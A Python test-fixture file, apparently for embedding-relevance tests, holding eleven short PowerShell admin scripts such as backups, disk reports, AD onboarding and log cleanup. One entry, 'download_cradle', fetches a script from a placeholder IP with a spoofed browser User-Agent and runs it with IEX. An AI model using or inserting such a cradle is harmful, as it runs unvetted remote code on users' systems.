"""Small realistic admin scripts, one job each, for the embedding relevance tests.

`log_cleanup_pipeline` and `log_cleanup_loop` do the same job written two different ways.
"""

BACKUP_ROBOCOPY = r"""
<#
.SYNOPSIS
    Mirrors the finance data folder to the backup share every night.
#>
param(
    [string]$Source = 'D:\Data\Finance',
    [string]$Destination = '\\nas01\backups\Finance'
)
$stamp = Get-Date -Format 'yyyyMMdd'
$logFile = "C:\Scripts\Logs\robocopy-$stamp.txt"
robocopy $Source $Destination /MIR /R:2 /W:5 /NP /LOG:$logFile
if ($LASTEXITCODE -ge 8) {
    Write-Error "Robocopy failed with exit code $LASTEXITCODE"
    exit 1
}
Write-Host "Backup of $Source finished"
"""

DISK_SPACE_REPORT = r"""
# Reports free space on every fixed drive of the listed servers and mails a CSV.
$servers = Get-Content -Path 'C:\Scripts\servers.txt'
$report = foreach ($server in $servers) {
    Get-CimInstance -ClassName Win32_LogicalDisk -ComputerName $server -Filter "DriveType=3" |
        Select-Object @{n='Server';e={$server}}, DeviceID,
            @{n='SizeGB';e={[math]::Round($_.Size / 1GB, 1)}},
            @{n='FreeGB';e={[math]::Round($_.FreeSpace / 1GB, 1)}},
            @{n='PercentFree';e={[math]::Round(100 * $_.FreeSpace / $_.Size)}}
}
$report | Sort-Object PercentFree | Export-Csv -Path 'C:\Reports\disk-space.csv' -NoTypeInformation
"""

RESTART_STOPPED_SERVICE = r"""
<#
.SYNOPSIS
    Starts the automatic services that are not running and restarts the print spooler if it hangs.
#>
$stopped = Get-Service | Where-Object { $_.StartType -eq 'Automatic' -and $_.Status -eq 'Stopped' }
foreach ($service in $stopped) {
    Write-Verbose "Starting $($service.Name)"
    Start-Service -Name $service.Name -ErrorAction SilentlyContinue
}
$spooler = Get-Service -Name Spooler
if ($spooler.Status -ne 'Running') {
    Restart-Service -Name Spooler -Force
}
"""

AD_USERS_FROM_CSV = r"""
#Requires -Modules ActiveDirectory
# Onboarding: one AD account per row of the HR export.
Import-Module ActiveDirectory
$rows = Import-Csv -Path '\\fs01\hr\new-hires.csv'
foreach ($row in $rows) {
    $sam = ($row.FirstName.Substring(0, 1) + $row.LastName).ToLower()
    $password = ConvertTo-SecureString $row.TempPassword -AsPlainText -Force
    New-ADUser -Name "$($row.FirstName) $($row.LastName)" -GivenName $row.FirstName `
        -Surname $row.LastName -SamAccountName $sam -UserPrincipalName "$sam@contoso.com" `
        -Path 'OU=Staff,DC=contoso,DC=com' -AccountPassword $password -Enabled $true
    Add-ADGroupMember -Identity 'All Staff' -Members $sam
}
"""

LOG_CLEANUP_PIPELINE = r"""
<#
.SYNOPSIS
    Deletes IIS log files older than 30 days.
#>
param([int]$Days = 30)
$cutoff = (Get-Date).AddDays(-$Days)
Get-ChildItem -Path 'C:\inetpub\logs\LogFiles' -Recurse -Filter *.log |
    Where-Object { $_.LastWriteTime -lt $cutoff } |
    Remove-Item -Force
"""

LOG_CLEANUP_LOOP = r"""
# purge logs past the retention period
$limit = [DateTime]::Now.AddDays(-14)
$folder = 'D:\Apps\Web\logs'
foreach ($file in [IO.Directory]::GetFiles($folder, '*.log', 'AllDirectories')) {
    if ([IO.File]::GetLastWriteTime($file) -lt $limit) {
        [IO.File]::Delete($file)
    }
}
"""

DOWNLOAD_CRADLE = r"""
$u = 'http://198.51.100.7/a.ps1'
$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0')
IEX ($wc.DownloadString($u))
"""

MAILBOX_SIZES = r"""
# Exchange Online: mailbox sizes, largest first
Connect-ExchangeOnline -UserPrincipalName admin@contoso.com
Get-Mailbox -ResultSize Unlimited |
    Get-MailboxStatistics |
    Select-Object DisplayName, ItemCount, TotalItemSize |
    Sort-Object TotalItemSize -Descending |
    Export-Csv -Path .\mailbox-sizes.csv -NoTypeInformation
"""

TEST_PORTS = r"""
param([string[]]$Hosts = @('web01', 'db01'), [int[]]$Ports = @(80, 443, 1433))
foreach ($h in $Hosts) {
    foreach ($p in $Ports) {
        $result = Test-NetConnection -ComputerName $h -Port $p -WarningAction SilentlyContinue
        [pscustomobject]@{ Host = $h; Port = $p; Open = $result.TcpTestSucceeded }
    }
}
"""

WINDOWS_UPDATES = r"""
# Installs pending Windows updates with PSWindowsUpdate and reboots if required
Install-Module PSWindowsUpdate -Force -Scope CurrentUser
Import-Module PSWindowsUpdate
Get-WindowsUpdate -MicrosoftUpdate -AcceptAll -Install -AutoReboot |
    Out-File "C:\Logs\updates-$(Get-Date -f yyyy-MM-dd).log"
"""

HARDWARE_INVENTORY = r"""
# Collects CPU, memory, BIOS and serial number of this machine
$cs = Get-CimInstance Win32_ComputerSystem
$bios = Get-CimInstance Win32_BIOS
$cpu = Get-CimInstance Win32_Processor | Select-Object -First 1
[pscustomobject]@{
    Computer     = $env:COMPUTERNAME
    Manufacturer = $cs.Manufacturer
    Model        = $cs.Model
    MemoryGB     = [math]::Round($cs.TotalPhysicalMemory / 1GB)
    Cpu          = $cpu.Name
    Serial       = $bios.SerialNumber
} | Export-Csv -Path "\\fs01\inventory\$env:COMPUTERNAME.csv" -NoTypeInformation
"""

SCRIPTS: dict[str, str] = {
    "backup_robocopy": BACKUP_ROBOCOPY,
    "disk_space_report": DISK_SPACE_REPORT,
    "restart_stopped_service": RESTART_STOPPED_SERVICE,
    "ad_users_from_csv": AD_USERS_FROM_CSV,
    "log_cleanup_pipeline": LOG_CLEANUP_PIPELINE,
    "log_cleanup_loop": LOG_CLEANUP_LOOP,
    "download_cradle": DOWNLOAD_CRADLE,
    "mailbox_sizes": MAILBOX_SIZES,
    "test_ports": TEST_PORTS,
    "windows_updates": WINDOWS_UPDATES,
    "hardware_inventory": HARDWARE_INVENTORY,
}
